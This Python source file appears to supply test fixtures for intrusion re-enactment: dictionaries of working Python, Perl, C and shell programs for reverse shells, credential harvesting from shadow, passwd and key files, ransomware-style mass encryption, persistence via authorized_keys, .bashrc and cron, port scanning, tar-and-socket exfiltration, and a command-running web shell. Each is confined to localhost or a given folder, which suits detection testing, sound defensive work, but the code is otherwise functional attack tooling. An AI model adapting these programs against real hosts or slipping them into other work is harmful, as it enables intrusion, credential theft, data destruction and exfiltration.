"""The carriers of the re-enacted intrusions: kind -> language -> source text.

They are toys that show a pattern of system calls. Each works on the folder of its first argument (made for it, below
the run's temporary folder) or on a port of 127.0.0.1, a bounded number of times, and ends by itself.
"""

REVERSE_SHELL = {
    "python": """
import os, socket, subprocess, sys
line = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for number in range(3):
    os.dup2(line.fileno(), number)
if sys.argv[2] == "-i":
    os.execv("/bin/sh", ["sh", "-i"])
subprocess.call(["/bin/sh", "-s"])
""",
    "perl": """
use Socket;
my ($port, $mode) = @ARGV;
socket(my $line, PF_INET, SOCK_STREAM, getprotobyname("tcp") || 6) or die;
connect($line, sockaddr_in($port, inet_aton("127.0.0.1"))) or die;
open(STDIN, "<&", $line); open(STDOUT, ">&", $line); open(STDERR, ">&", $line);
exec("/bin/sh", $mode);
""",
    "c": """
#include <arpa/inet.h>
#include <stdlib.h>
#include <unistd.h>
int main(int argc, char **argv) {
  struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
  peer.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int line = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(line, (struct sockaddr *)&peer, sizeof peer)) return 2;
  for (int number = 0; number < 3; number++) dup2(line, number);
  return execl("/bin/sh", "sh", argv[2], (char *)0);
}
""",
    "bash": """
exec 5<> /dev/tcp/127.0.0.1/$1
exec 0<&5 1>&5 2>&5
exec sh $2
""",
}

CREDENTIAL_SWEEP = {
    "python": """
import os, re, sys
wanted = re.compile(r"id_|credential|netrc|shadow|passwd|history|key$|pgpass")
loot = open("loot", "ab")
for folder, _, names in os.walk(sys.argv[1]):
    for name in names:
        path = os.path.join(folder, name)
        if wanted.search(name) and os.access(path, os.R_OK):
            with open(path, "rb") as file:
                loot.write(file.read())
""",
    "perl": """
use File::Find;
open(my $loot, ">>", "loot") or die;
find(sub {
  return unless -f $_ && /id_|credential|netrc|shadow|passwd|history|key$|pgpass/;
  open(my $file, "<", $_) or return;
  print $loot $_ for <$file>;
}, $ARGV[0]);
""",
    "c": """
#define _GNU_SOURCE
#include <fcntl.h>
#include <ftw.h>
#include <string.h>
#include <unistd.h>
static int loot;
static int visit(const char *path, const struct stat *status, int type, struct FTW *place) {
  static const char *wanted[] = {"id_", "credential", "netrc", "shadow", "passwd", "history", "key", "pgpass"};
  char block[512];
  for (int n = 0; type == FTW_F && n < 8; n++) {
    if (!strstr(path + place->base, wanted[n])) continue;
    int file = open(path, O_RDONLY);
    for (ssize_t got; (got = read(file, block, sizeof block)) > 0;) if (write(loot, block, got) < 0) return 1;
    close(file);
    break;
  }
  return 0;
}
int main(int argc, char **argv) {
  loot = open("loot", O_WRONLY | O_CREAT | O_APPEND, 0600);
  return nftw(argv[1], visit, 16, FTW_PHYS);
}
""",
    "sh": """
grep -rl password "$1" > found
find "$1" -name 'id_*' -o -name '*.key' -o -name shadow >> found
while read -r path; do
  if [ -r "$path" ]; then read -r line < "$path"; echo "$path $line" >> loot; fi
done < found
cat "$1"/etc/passwd "$1"/etc/shadow >> loot
""",
}

MASS_ENCRYPTION = {
    "python": """
import hashlib, os, sys
key = hashlib.sha256(sys.argv[2].encode()).digest()
for folder, _, names in os.walk(sys.argv[1]):
    for name in names:
        path = os.path.join(folder, name)
        with open(path, "r+b") as file:
            data = file.read()
            file.seek(0)
            file.write(bytes(byte ^ key[n % 32] for n, byte in enumerate(data)))
            os.fsync(file.fileno())
        os.rename(path, path + ".locked")
    with open(os.path.join(folder, "README.locked"), "w") as note:
        note.write("a re-enactment\\n")
""",
    "perl": """
use File::Find;
my ($folder, $key) = @ARGV;
my @paths;
find(sub { push @paths, $File::Find::name if -f }, $folder);
for my $path (@paths) {
  open(my $in, "<:raw", $path) or next;
  open(my $out, ">:raw", "$path.locked") or next;
  while (read($in, my $block, 1024)) { print $out ($block ^ substr($key x 1024, 0, length $block)) }
  close $_ for $in, $out;
  unlink $path;
}
""",
    "c": """
#define _GNU_SOURCE
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static const char *key;
static int visit(const char *path, const struct stat *status, int type, struct FTW *place) {
  char block[1024], locked[4096];
  if (type != FTW_F || strstr(path, ".locked")) return 0;
  snprintf(locked, sizeof locked, "%s.locked", path);
  int in = open(path, O_RDONLY), out = open(locked, O_WRONLY | O_CREAT | O_EXCL, 0600);
  for (ssize_t got; (got = read(in, block, sizeof block)) > 0;) {
    for (ssize_t n = 0; n < got; n++) block[n] ^= key[n % strlen(key)];
    if (write(out, block, got) < 0) return 1;
  }
  close(in);
  close(out);
  return unlink(path);
}
int main(int argc, char **argv) {
  key = argv[2];
  return nftw(argv[1], visit, 16, FTW_PHYS | FTW_DEPTH);
}
""",
    "sh": """
set -e
for path in "$1"/*.txt "$1"/*/*.txt; do
  if [ -f "$path" ]; then
    openssl enc -aes-128-cbc -pbkdf2 -pass pass:"$2" -in "$path" -out "$path.locked"
    echo overwritten > "$path"
    rm "$path"
  fi
done
""",
}

_DAEMON_LINES = 3

PERSISTENCE = {
    "python": f"""
import os, sys, time
host = sys.argv[1]
for home in os.scandir(host + "/home"):
    with open(home.path + "/.bashrc", "a") as file:
        file.write("true # re-enacted\\n")
    os.makedirs(home.path + "/.ssh", exist_ok=True)
    with open(home.path + "/.ssh/authorized_keys", "a") as file:
        file.write("invented-key\\n")
    os.chmod(home.path + "/.ssh/authorized_keys", 0o600)
os.makedirs(host + "/etc/cron.d", exist_ok=True)
with open(host + "/etc/cron.d/job", "w") as file:
    file.write("* * * * * true\\n")
os.chmod(host + "/etc/cron.d/job", 0o755)
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
os.umask(0)
null = os.open(os.devnull, os.O_RDWR)
for number in range(3):
    os.dup2(null, number)
for _ in range({_DAEMON_LINES}):
    with open(host + "/beacon", "a") as file:
        file.write("alive\\n")
    time.sleep(0.02)
""",
    "perl": f"""
use POSIX ();
my $host = $ARGV[0];
for my $home (glob "$host/home/*") {{
  open(my $rc, ">>", "$home/.bashrc"); print $rc "true # re-enacted\\n"; close $rc;
  mkdir "$home/.ssh";
  open(my $keys, ">>", "$home/.ssh/authorized_keys"); print $keys "invented-key\\n"; close $keys;
  chmod 0600, "$home/.ssh/authorized_keys";
}}
mkdir "$host/etc/cron.d";
open(my $cron, ">", "$host/etc/cron.d/job"); print $cron "* * * * * true\\n"; close $cron;
chmod 0755, "$host/etc/cron.d/job";
exit 0 if fork;
POSIX::setsid();
exit 0 if fork;
open(STDIN, "<", "/dev/null"); open(STDOUT, ">", "/dev/null"); open(STDERR, ">", "/dev/null");
for (1 .. {_DAEMON_LINES}) {{
  open(my $beacon, ">>", "$host/beacon"); print $beacon "alive\\n"; close $beacon;
  select(undef, undef, undef, 0.02);
}}
""",
    "c": f"""
#include <fcntl.h>
#include <glob.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
static void add(const char *folder, const char *name, const char *text, int mode) {{
  char path[4096];
  snprintf(path, sizeof path, "%s/%s", folder, name);
  int file = open(path, O_WRONLY | O_CREAT | O_APPEND, 0600);
  if (write(file, text, strlen(text)) > 0 && mode) fchmod(file, mode);
  close(file);
}}
int main(int argc, char **argv) {{
  char path[4096];
  glob_t homes;
  snprintf(path, sizeof path, "%s/home/*", argv[1]);
  glob(path, 0, NULL, &homes);
  for (size_t n = 0; n < homes.gl_pathc; n++) {{
    add(homes.gl_pathv[n], ".bashrc", "true # re-enacted\\n", 0);
    snprintf(path, sizeof path, "%s/.ssh", homes.gl_pathv[n]);
    mkdir(path, 0700);
    add(path, "authorized_keys", "invented-key\\n", 0600);
  }}
  snprintf(path, sizeof path, "%s/etc/cron.d", argv[1]);
  mkdir(path, 0755);
  add(path, "job", "* * * * * true\\n", 0755);
  if (fork()) return 0;
  setsid();
  if (fork()) return 0;
  int null = open("/dev/null", O_RDWR);
  for (int number = 0; number < 3; number++) dup2(null, number);
  for (int n = 0; n < {_DAEMON_LINES}; n++, usleep(20000)) add(argv[1], "beacon", "alive\\n", 0);
}}
""",
    "sh": f"""
umask 077
for home in "$1"/home/*; do
  echo 'true # re-enacted' >> "$home/.bashrc"
  [ -d "$home/.ssh" ] || mkdir "$home/.ssh"
  echo invented-key >> "$home/.ssh/authorized_keys"
  chmod 600 "$home/.ssh/authorized_keys"
done
mkdir -p "$1/etc/cron.d"
echo '* * * * * true' > "$1/etc/cron.d/job"
chmod 755 "$1/etc/cron.d/job"
echo 'for n in $(seq {_DAEMON_LINES}); do echo alive >> "$0.beacon"; sleep 0.02; done' > "$1/keeper.sh"
setsid sh "$1/keeper.sh" < /dev/null > /dev/null 2>&1 &
""",
}

PORT_SWEEP = {
    "python": """
import socket, sys
for port in range(int(sys.argv[1]), int(sys.argv[2])):
    with socket.socket() as probe:
        probe.settimeout(0.2)
        if probe.connect_ex(("127.0.0.1", port)) == 0:
            print(port, "open")
""",
    "perl": """
use Socket;
for my $port ($ARGV[0] .. $ARGV[1]) {
  socket(my $probe, PF_INET, SOCK_STREAM, 6) or die;
  print "$port open\\n" if connect($probe, sockaddr_in($port, inet_aton("127.0.0.1")));
  close $probe;
}
""",
    "c": """
#include <arpa/inet.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
int main(int argc, char **argv) {
  for (int port = atoi(argv[1]); port < atoi(argv[2]); port++) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(port)};
    peer.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int probe = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), error = 1;
    socklen_t size = sizeof error;
    struct pollfd ready = {.fd = probe, .events = POLLOUT};
    if (connect(probe, (struct sockaddr *)&peer, sizeof peer) == 0) error = 0;
    else if (poll(&ready, 1, 200) == 1) getsockopt(probe, SOL_SOCKET, SO_ERROR, &error, &size);
    if (!error) printf("%d open\\n", port);
    close(probe);
  }
}
""",
    "bash": """
for ((port = $1; port < $2; port++)); do
  { : < /dev/tcp/127.0.0.1/$port; } 2> /dev/null && echo "$port open"
done
true
""",
}

DATA_THEFT = {
    "python": """
import io, socket, sys, tarfile
packed = io.BytesIO()
with tarfile.open(fileobj=packed, mode="w:gz") as archive:
    archive.add(sys.argv[1])
with socket.create_connection(("127.0.0.1", int(sys.argv[2]))) as line:
    for start in range(0, len(packed.getbuffer()), 1024):
        line.sendall(packed.getbuffer()[start : start + 1024])
""",
    "perl": """
use Socket;
my ($folder, $port) = @ARGV;
open(my $packed, "-|", "tar", "-cz", $folder) or die;
socket(my $line, PF_INET, SOCK_STREAM, 6) or die;
connect($line, sockaddr_in($port, inet_aton("127.0.0.1"))) or die;
while (sysread($packed, my $block, 2048)) { syswrite($line, $block) }
close $packed;
""",
    "c": """
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <ftw.h>
#include <stdlib.h>
#include <sys/sendfile.h>
#include <unistd.h>
static int line;
static int visit(const char *path, const struct stat *status, int type, struct FTW *place) {
  if (type != FTW_F) return 0;
  int file = open(path, O_RDONLY);
  for (off_t sent = 0; sent < status->st_size;) if (sendfile(line, file, &sent, 4096) <= 0) return 1;
  return close(file);
}
int main(int argc, char **argv) {
  struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
  peer.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  line = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(line, (struct sockaddr *)&peer, sizeof peer)) return 2;
  return nftw(argv[1], visit, 16, FTW_PHYS);
}
""",
    "bash": """
tar -cf staged.tar "$1"
gzip staged.tar
exec 3> /dev/tcp/127.0.0.1/$2
cat staged.tar.gz >&3
exec 3>&-
rm staged.tar.gz
""",
}

WEB_SHELL_COMMANDS = 6

WEB_SHELL = {
    "python": """
import http.server, subprocess, sys
commands = ["id; pwd", "ls -la; true", "uname -s; umask", "find victim | wc -l", "cat victim/*; true", "echo; id"]
class Handler(http.server.SimpleHTTPRequestHandler):
    def do_GET(self):
        done = subprocess.run(commands[int(self.path.split("=")[1])], shell=True, capture_output=True)
        self.send_response(200)
        self.send_header("Content-Length", str(len(done.stdout)))
        self.end_headers()
        self.wfile.write(done.stdout)
    def log_message(self, *arguments):
        pass
server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
with open("port", "w") as file:
    file.write(f"{server.server_address[1]}\\n")
for _ in range(int(sys.argv[1])):
    server.handle_request()
""",
    "perl": """
use Socket;
my @commands = ("id; pwd", "ls -la; true", "uname -s; umask", "find victim | wc -l", "cat victim/*; true", "echo; id");
socket(my $server, PF_INET, SOCK_STREAM, 6) or die;
bind($server, sockaddr_in(0, inet_aton("127.0.0.1"))) or die;
listen($server, 5);
open(my $file, ">", "port"); print $file +(sockaddr_in(getsockname($server)))[0], "\\n"; close $file;
for (1 .. $ARGV[0]) {
  accept(my $line, $server) or next;
  sysread($line, my $request, 4096);
  my ($number) = $request =~ /n=(\\d)/;
  my $answer = qx($commands[$number]);
  syswrite($line, "HTTP/1.0 200 OK\\r\\n\\r\\n$answer");
  close $line;
}
""",
}
